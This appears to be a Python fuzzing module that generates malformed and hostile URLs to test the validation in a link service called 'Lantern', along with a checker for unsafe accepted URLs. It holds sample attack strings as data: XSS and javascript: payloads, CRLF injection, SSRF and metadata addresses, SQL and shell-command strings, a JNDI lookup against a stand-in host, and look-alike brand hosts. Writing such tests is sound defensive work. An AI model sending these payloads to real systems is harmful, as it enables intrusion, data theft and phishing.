"""A generated corpus of malformed and hostile target URLs, and what a valid accepted one looks like.

Deterministic (one seed), so a failing URL can be found again. Families:
foreign schemes, control and invisible characters, CR/LF, huge lengths,
user-info, look-alike (IDN) hosts, Lantern's own host, private addresses,
percent and port tricks, markup, random code points and bytes, and
mutations of valid URLs — some of which are valid and may be accepted.
"""

from __future__ import annotations

import contextlib
import ipaddress
import random
import re
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

#: Hosts the drill's Lantern treats as its own and as denied (see LANTERN_BASE_URL/DENIED_DOMAINS).
OWN_HOST = "go.lantern-drill.com"
DENIED_HOST = "phish.example.net"

_VALID = [
    "https://example.com/",
    "https://example.com/a/b?x=1&y=2#top",
    "http://shop.example.org/item/42",
    "https://news.example.co.uk/2026/11/story.html?ref=chat",
    "https://münchen.example/straße",
    "https://example.com:8443/path",
]
_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "javascript://example.com/%0Aalert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "file://localhost/c:/windows/win.ini",
    "ftp://example.com/file",
    "ws://example.com/socket",
    "chrome://settings",
    "about:blank",
    "mailto:someone@example.com",
    "tel:+123456789",
    "blob:https://example.com/uuid",
    "https:/example.com",
    "https:example.com",
    "//example.com/path",
    "http//example.com",
    "https//example.com",
    "example.com",
    "www.example.com/path",
    "ｈｔｔｐｓ://example.com/",
    "hxxps://example.com/",
    "https://",
    "https:///path",
    "http://?",
    "http://#",
    "",
    " ",
]
_CONTROL = [chr(c) for c in range(0x00, 0x20)] + [chr(0x7F)] + [chr(c) for c in range(0x80, 0xA0)]
_INVISIBLE = list("\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202e\u2066\ufeff")
_CRLF = [
    "https://example.com/\r\nSet-Cookie: x=1",
    "https://example.com/%0d%0aSet-Cookie:%20x=1",
    "https://example.com/\nLocation: https://evil.example/",
    "https://example.com/\r\n\r\n<html>evil</html>",
    "https://example.com/%E5%98%8A%E5%98%8DSet-Cookie:x=1",
    "https://example.com\r\n.evil.example/",
]
_USERINFO = [
    "https://user:pass@example.com/",
    "https://example.com@evil.example/",
    "https://example.com:443@evil.example/",
    "https://@example.com/",
    "https://a%40b@example.com/",
    "https://evil.example#@example.com/",
    "https://evil.example?@example.com/",
    "https://example.com\\@evil.example/",
    "https://example.com%5c@evil.example/",
    "http://user@localhost/",
]
_PRIVATE = [
    "http://127.0.0.1/",
    "http://127.1/",
    "http://localhost/",
    "http://LOCALHOST./admin",
    "http://foo.localhost/",
    "http://10.0.0.1/",
    "http://192.168.1.1/router",
    "http://172.16.0.1/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://[fe80::1%25eth0]/",
    "http://0x7f000001/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://0/",
    "http://0.0.0.0/",
    "http://100.64.0.1/",
    "http://[fc00::1]/",
    "http://224.0.0.1/",
]
_TRICKS = [
    "https://example.com:99999/",
    "https://example.com:-1/",
    "https://example.com:0/",
    "https://example.com:8o/",
    "https://[::1",
    "https://[",
    "https://]/",
    "https://exa%6dple.com/",
    "https://example..com/",
    "https://.example.com/",
    "https://-example.com/",
    "https://example-.com/",
    "https://exam_ple.com/",
    "https://example.com./",
    "https://example/",
    "https://example.123/",
    "https://example.0x7f/",
    "https://1.2.3.4.5/",
    "https://256.256.256.256/",
    "https://example.com/%00",
    "https://example.com/%zz",
    "https://example.com/../../etc/passwd",
    "https://example.com/?q=%",
    "https://xn--/",
    "https://xn--zz-zzz.com/",
    "https://example.com/#" + "#" * 10,
]
_MARKUP = [
    "https://example.com/<script>alert(1)</script>",
    'https://example.com/"><img src=x onerror=alert(1)>',
    "https://example.com/?q=<https://evil.example|click>",
    "https://example.com/'; DROP TABLE links; --",
    "https://example.com/<!channel>",
    "https://example.com/`rm -rf /`",
    "https://example.com/${jndi:ldap://evil.example/a}",
    "https://example.com/{{7*7}}",
    "<https://example.com/|click>",
    "<script>alert(1)</script>",
]
#: Latin letters and their look-alikes from other scripts.
_LOOKALIKE = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і", "l": "ӏ", "n": "ո"}
_BRANDS = ["paypal.com", "google.com", "apple.com", "example.com", OWN_HOST, DENIED_HOST]


@dataclass(frozen=True, slots=True)
class Case:
    """One generated URL and the family it came from (to report refusals per family)."""

    family: str
    url: str


def _insert(rng: random.Random, url: str, piece: str) -> str:
    at = rng.randrange(len(url) + 1)
    return url[:at] + piece + url[at:]


def _control(rng: random.Random) -> str:
    return _insert(rng, rng.choice(_VALID), rng.choice(_CONTROL + _INVISIBLE))


def _long(rng: random.Random) -> str:
    size = rng.choice([2049, 2100, 4096, 8192, 20_000, 70_000])
    base = rng.choice(["https://example.com/", "https://example.com/?q=", "https://" + "a" * 64 + ".com/"])
    kind = rng.randrange(4)
    if kind == 0:
        return base + "a" * (size - len(base))
    if kind == 1:  # a host of many labels, or one over-long label
        return "https://" + ".".join(["b" * rng.choice([10, 63, 64])] * rng.choice([3, 5, 40])) + ".com/"
    if kind == 2:  # short as typed, long once percent-encoded
        return "https://example.com/" + "é" * (size // 4)
    return base + "%41" * (size // 3)


def _lookalike(rng: random.Random) -> str:
    brand = rng.choice(_BRANDS)
    letters = [i for i, ch in enumerate(brand) if ch in _LOOKALIKE]
    chosen = rng.sample(letters, k=min(len(letters), rng.choice([1, 1, 2, len(letters)])))
    host = "".join(_LOOKALIKE[ch] if i in chosen else ch for i, ch in enumerate(brand))
    if rng.random() < 0.3:
        with contextlib.suppress(UnicodeError):  # some look-alikes are not even valid IDNA
            host = host.encode("idna").decode("ascii")
    return f"https://{host}/login"


def _own_host(rng: random.Random) -> str:
    host = rng.choice([OWN_HOST, OWN_HOST.upper(), OWN_HOST + ".", "www." + OWN_HOST, DENIED_HOST])
    host = rng.choice([host, "sub." + DENIED_HOST]) if host == DENIED_HOST else host
    port = rng.choice(["", ":443", ":80", ":8080"])
    return f"{rng.choice(['http', 'https', 'HTTPS'])}://{host}{port}/{rng.choice(['', 'abc1234', 'api/v1'])}"


def _random_code_points(rng: random.Random) -> str:
    def char() -> str:
        while True:
            code = rng.choice([rng.randrange(0x20, 0x7F), rng.randrange(0, 0x110000)])
            if rng.random() < 0.05 or not 0xD800 <= code <= 0xDFFF:  # a few lone surrogates too
                return chr(code)

    body = "".join(char() for _ in range(rng.randrange(1, 60)))
    return rng.choice(["", "https://", "https://example.com/", "http://"]) + body


def _random_bytes(rng: random.Random) -> str:
    raw = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 80)))
    return rng.choice(["", "https://example.com/", "https://"]) + raw.decode("latin-1")


def _mutation(rng: random.Random) -> str:
    url = list(rng.choice(_VALID))
    for _ in range(rng.randrange(1, 4)):
        at = rng.randrange(len(url))
        action = rng.randrange(3)
        if action == 0:
            url.insert(at, rng.choice(string.printable))
        elif action == 1 and len(url) > 1:
            del url[at]
        else:
            url[at] = rng.choice(string.punctuation + string.ascii_letters)
    return "".join(url)


def _pick(items: list[str]) -> Callable[[random.Random], str]:
    return lambda rng: rng.choice(items)


FAMILIES: dict[str, Callable[[random.Random], str]] = {
    "scheme": _pick(_SCHEMES),
    "control": _control,
    "crlf": _pick(_CRLF),
    "long": _long,
    "userinfo": _pick(_USERINFO),
    "lookalike": _lookalike,
    "own-host": _own_host,
    "private": _pick(_PRIVATE),
    "tricks": _pick(_TRICKS),
    "markup": _pick(_MARKUP),
    "code-points": _random_code_points,
    "bytes": _random_bytes,
    "mutation": _mutation,
}


def corpus(count: int, seed: int = 8) -> Iterator[Case]:
    """`count` cases, each family in turn; fixed lists are walked in full before repeating at random."""
    rng = random.Random(seed)
    fixed = {"scheme": _SCHEMES, "crlf": _CRLF, "userinfo": _USERINFO, "private": _PRIVATE}
    fixed |= {"tricks": _TRICKS, "markup": _MARKUP}
    names = list(FAMILIES)
    for n in range(count):
        family = names[n % len(names)]
        turn = n // len(names)
        items = fixed.get(family)
        url = items[turn] if items is not None and turn < len(items) else FAMILIES[family](rng)
        yield Case(family, url)


_BAD_CHARS = re.compile(r"[^\x21-\x7e]|[\"<>\\^`{|}]")
_LABEL = re.compile(r"^(?!-)[a-z0-9-]{1,63}(?<!-)$")
_NUMBER = re.compile(r"^(?:0x[0-9a-f]*|[0-9]+)$")


def problems_with_accepted(url: str, own_hosts: set[str], denied: set[str]) -> list[str]:
    """Why a URL Lantern accepted is NOT a valid, safe http(s) target; empty when it is."""
    found: list[str] = []
    if len(url) > 2048 + 512:
        found.append(f"{len(url)} characters long")
    if _BAD_CHARS.search(url):
        found.append("raw space, control, non-ASCII or markup character")
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError as error:
        return [*found, f"unparseable: {error}"]
    if parts.scheme not in {"http", "https"}:
        found.append(f"scheme {parts.scheme!r}")
    if "@" in parts.netloc:
        found.append("user-info in the host part")
    if port == 0:
        found.append("port 0")
    host = (parts.hostname or "").rstrip(".")
    if not host:
        return [*found, "no host"]
    try:
        address = ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        address = None
    if address is not None:
        if not address.is_global:
            found.append(f"non-public address {address}")
        return found
    labels = host.split(".")
    bare = host.removeprefix("www.")
    if len(labels) < 2 or len(host) > 253 or not all(_LABEL.match(label) for label in labels):
        found.append(f"host {host!r} is not a domain name")
    elif _NUMBER.match(labels[-1]):
        found.append(f"host {host!r} ends in a number (browsers read it as an IPv4 address)")
    if host == "localhost" or host.endswith(".localhost"):
        found.append("localhost")
    if bare in own_hosts:
        found.append("Lantern's own host")
    if any(bare == d or bare.endswith("." + d) for d in denied):
        found.append("a denied domain")
    return found
